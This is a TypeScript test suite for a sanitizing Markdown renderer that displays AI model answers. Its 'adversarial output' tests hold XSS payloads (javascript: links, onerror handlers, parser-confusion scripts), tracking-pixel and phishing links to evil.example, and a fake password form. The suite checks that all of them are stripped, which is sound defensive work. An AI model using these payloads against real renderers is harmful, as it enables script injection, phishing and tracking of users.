import { markdownBlocks, renderMarkdown } from './markdown';

const APP_ORIGIN = 'https://gateway.example.com';

/** The rendered answer as a DOM tree to query. */
function render(text: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = renderMarkdown(text, APP_ORIGIN);
  return container;
}

function attributeNames(root: HTMLElement): string[] {
  return [...root.querySelectorAll('*')].flatMap((node) =>
    [...node.attributes].map((attribute) => attribute.name),
  );
}

/** Markdown's own attributes, plus what the sanitizer sets: link safety and `tabindex` on scrollable boxes. */
const ALLOWED_ATTRIBUTES = [
  'href',
  'src',
  'alt',
  'title',
  'align',
  'start',
  'rel',
  'target',
  'tabindex',
];

describe('renderMarkdown', () => {
  describe('keeps legitimate Markdown', () => {
    it('renders headings, emphasis, lists, quotes, rules and line breaks', () => {
      const root = render(
        '# Title\n\n## Part\n\n**bold** *em* ~~gone~~  \nnext\n\n- one\n- two\n\n3. three\n\n> quoted\n\n---',
      );
      expect(root.querySelector('h1')?.textContent).toBe('Title');
      expect(root.querySelector('h2')?.textContent).toBe('Part');
      expect(root.querySelector('strong')?.textContent).toBe('bold');
      expect(root.querySelector('em')?.textContent).toBe('em');
      expect(root.querySelector('del')?.textContent).toBe('gone');
      expect(root.querySelector('br')).not.toBeNull();
      expect([...root.querySelectorAll('ul li')].map((li) => li.textContent)).toEqual([
        'one',
        'two',
      ]);
      expect(root.querySelector('ol')?.getAttribute('start')).toBe('3');
      expect(root.querySelector('blockquote')?.textContent).toContain('quoted');
      expect(root.querySelector('hr')).not.toBeNull();
    });

    it('renders code blocks as text, markup inside included', () => {
      const root = render('Use `a < b`\n\n```html\n<script>alert(1)</script>\n```');
      expect(root.querySelector('p code')?.textContent).toBe('a < b');
      expect(root.querySelector('pre code')?.textContent).toBe('<script>alert(1)</script>\n');
      expect(root.querySelector('script')).toBeNull();
      // The language hint marked puts in a class is dropped with every other class.
      expect(root.querySelector('pre code')?.hasAttribute('class')).toBe(false);
    });

    it('renders tables with their alignment', () => {
      const root = render('| a | b |\n|:--|--:|\n| 1 | 2 |');
      expect([...root.querySelectorAll('thead th')].map((th) => th.textContent)).toEqual([
        'a',
        'b',
      ]);
      expect(root.querySelector('tbody td')?.textContent).toBe('1');
      expect(root.querySelector('th')?.getAttribute('align')).toBe('left');
    });

    it('opens http(s) links in a new tab without referrer and hides no destination', () => {
      const root = render(
        'See [the docs](https://docs.example.org/guide) and https://aws.amazon.com',
      );
      const [docs, aws] = root.querySelectorAll('a');
      expect(docs.getAttribute('href')).toBe('https://docs.example.org/guide');
      expect(docs.getAttribute('rel')).toBe('noopener noreferrer nofollow');
      expect(docs.getAttribute('target')).toBe('_blank');
      expect(root.textContent).toContain('the docs (https://docs.example.org/guide)');
      // A link whose text is its address is not repeated.
      expect(aws.textContent).toBe('https://aws.amazon.com');
      expect(root.textContent?.trim().endsWith('https://aws.amazon.com')).toBe(true);
    });

    it('keeps mailto links and shows the address', () => {
      const root = render('[write to us](mailto:help@example.com) or help@example.com');
      const links = root.querySelectorAll('a');
      expect([...links].map((link) => link.getAttribute('href'))).toEqual([
        'mailto:help@example.com',
        'mailto:help@example.com',
      ]);
      expect(root.textContent?.trim()).toBe('write to us (help@example.com) or help@example.com');
    });

    it('shows images from the app origin and inline raster data URIs', () => {
      const pixel = 'data:image/png;base64,iVBORw0KGgo=';
      const root = render(`![logo](/assets/logo.png) ![dot](${pixel})`);
      const sources = [...root.querySelectorAll('img')].map((image) => image.getAttribute('src'));
      expect(sources).toEqual(['/assets/logo.png', pixel]);
    });
  });

  describe('adversarial output', () => {
    it('a phishing link cannot hide its destination', () => {
      const root = render(
        '[Your bank](https://evil.example/login) · [https://mybank.com](https://evil.example)',
      );
      const links = [...root.querySelectorAll('a')];
      expect(links).toHaveLength(2);
      expect(root.textContent?.trim()).toBe(
        'Your bank (https://evil.example/login) · https://mybank.com (https://evil.example/)',
      );
    });

    it.each([
      ['javascript: link', '[click](javascript:alert(1))'],
      ['encoded javascript: link', '[click](jav&#x61;script:alert(1))'],
      ['raw javascript: anchor', '<a href="JaVaScRiPt:alert(1)">click</a>'],
      [
        'data:text/html link',
        '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
      ],
      ['vbscript: link', '<a href="vbscript:msgbox(1)">click</a>'],
      ['file: link', '[click](file:///etc/passwd)'],
      ['custom protocol link', '[click](ms-settings:privacy)'],
    ])('a %s stays text, not a link', (_name, text) => {
      const root = render(text);
      expect(root.querySelector('a')).toBeNull();
      expect(root.textContent).toContain('click');
    });

    it.each([
      [
        'remote Markdown image',
        '![tracker](https://evil.example/pixel.gif?user=alice)',
        '[image: tracker]',
      ],
      ['protocol-relative image', '![x](//evil.example/x.png)', '[image: x]'],
      ['raw remote img', '<img src="http://evil.example/a.png">', '[image]'],
      ['SVG data image', '![svg](data:image/svg+xml;base64,PHN2Zy8+)', '[image: svg]'],
      ['HTML data image', '<img src="data:text/html,<b>x</b>" alt="html">', '[image: html]'],
      ['lookalike origin', '![x](https://gateway.example.com.evil.example/x.png)', '[image: x]'],
    ])('a %s becomes its alt text', (_name, text, placeholder) => {
      const root = render(text);
      expect(root.querySelector('img')).toBeNull();
      expect(root.textContent).toContain(placeholder);
    });

    it('drops class, role, style, id, data and aria attributes that make output look like the app', () => {
      const root = render(
        '<p class="error-alert" role="alert" style="color:red" id="session" data-testid="x" aria-live="assertive" tabindex="0">' +
          'Your session expired. Sign in again.</p>\n\n' +
          '<div class="banner" role="dialog"><strong class="title">Security notice</strong></div>',
      );
      expect(root.textContent).toContain('Your session expired.');
      expect(root.querySelector('strong')?.textContent).toBe('Security notice');
      expect(root.querySelector('div')).toBeNull();
      expect(attributeNames(root)).toEqual([]);
    });

    it('removes raw HTML blocks that are not Markdown', () => {
      const root = render(
        '<form action="https://evil.example"><input name="password"><button>Log in</button></form>\n\n' +
          '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x">\n\n' +
          '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/a.css">' +
          '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">' +
          '<details open><summary>more</summary>hidden</details><video src="x"></video><template><b>t</b></template>',
      );
      expect(
        root.querySelector(
          'form, input, button, iframe, object, embed, style, link, meta, base, details, video, template',
        ),
      ).toBeNull();
      expect(root.innerHTML).not.toContain('display:none');
    });

    it('removes script and event handlers', () => {
      const root = render(
        'Hi <script>alert(1)</script><img src="/a.png" onerror="alert(2)"> <b onmouseover="alert(3)">b</b>',
      );
      expect(root.querySelector('script')).toBeNull();
      expect(root.innerHTML).not.toContain('alert');
      expect(attributeNames(root).every((name) => ALLOWED_ATTRIBUTES.includes(name))).toBe(true);
    });

    it('removes SVG and MathML with their content', () => {
      const root = render(
        '<svg><a href="https://evil.example"><text>svg link</text></a><script>alert(1)</script></svg>' +
          '<math><mtext><a href="javascript:alert(2)">math link</a></mtext></math> after',
      );
      expect(root.querySelector('svg, math, a, script')).toBeNull();
      expect(root.textContent).not.toContain('svg link');
      expect(root.textContent).toContain('after');
    });

    it('resists nesting and parser tricks', () => {
      const root = render(
        '<scr<script>ipt>alert(1)</scr</script>ipt>\n\n' +
          '<noscript><p title="</noscript><img src=x onerror=alert(2)>"></noscript>\n\n' +
          '<a href="https://ok.example"><a href="javascript:alert(3)">inner</a></a>\n\n' +
          '[![img](https://evil.example/i.png)](javascript:alert(4))\n\n' +
          '<table><tr><td><style>*{color:red}</style><svg><style><img src=x onerror=alert(5)></style></svg></td></tr></table>\n\n' +
          '<p>[x](<a href="https://evil.example">nested</a>)</p>',
      );
      expect(root.querySelector('script, style, svg, noscript')).toBeNull();
      for (const link of root.querySelectorAll('a')) {
        expect(link.getAttribute('href')).toMatch(/^https:\/\//);
        expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
      }
      for (const image of root.querySelectorAll('img')) {
        expect(image.getAttribute('src')).not.toMatch(/^(?:https?:)?\/\//);
      }
      expect(root.innerHTML).not.toMatch(/onerror|javascript:/i);
      expect(attributeNames(root).every((name) => ALLOWED_ATTRIBUTES.includes(name))).toBe(true);
    });

    it('an app-relative link is shown with its full address', () => {
      const root = render('[Sign in again](/sign-in)');
      expect(root.querySelector('a')?.getAttribute('href')).toBe(`${APP_ORIGIN}/sign-in`);
      expect(root.textContent?.trim()).toBe(`Sign in again (${APP_ORIGIN}/sign-in)`);
    });
  });

  describe('scrollable boxes', () => {
    it('makes code blocks and tables (in a box of their own) reachable by keyboard', () => {
      const root = render('```\ncode\n```\n\n| a | b |\n| - | - |\n| 1 | 2 |');
      expect(root.querySelector('pre')?.getAttribute('tabindex')).toBe('0');
      const box = root.querySelector('table')?.parentElement;
      expect(box?.tagName).toBe('DIV');
      expect(box?.getAttribute('tabindex')).toBe('0');
    });

    it('does not let the model set a tabindex itself', () => {
      const root = render('<p tabindex="0">focus me</p>');
      expect(root.querySelector('[tabindex]')).toBeNull();
    });
  });
});

describe('markdownBlocks', () => {
  it('splits top-level code blocks out with their language tag, the rest rendered', () => {
    const blocks = markdownBlocks(
      'Intro [doc][1]\n\n```ts title="x"\nconst a = 1;\n```\n\nmiddle\n\n    indented\n\n[1]: https://example.com',
      APP_ORIGIN,
    );
    expect(blocks.map((block) => block.kind)).toEqual(['html', 'code', 'html', 'code']);
    expect(blocks[1]).toEqual({ kind: 'code', code: 'const a = 1;', language: 'ts' });
    expect(blocks[3]).toEqual({ kind: 'code', code: 'indented' });
    // A reference link defined after the code still resolves.
    expect(blocks[0]).toMatchObject({ kind: 'html' });
    expect((blocks[0] as { html: string }).html).toContain('href="https://example.com/"');
  });

  it('sanitizes the parts between code blocks as renderMarkdown does, and drops odd tags', () => {
    const blocks = markdownBlocks(
      '<img src=x onerror="alert(1)">\n\n```<script>\nx\n```',
      APP_ORIGIN,
    );
    expect(blocks[0]).toMatchObject({ kind: 'html' });
    expect((blocks[0] as { html: string }).html).not.toContain('onerror');
    expect(blocks[1]).toEqual({ kind: 'code', code: 'x' });
  });
});
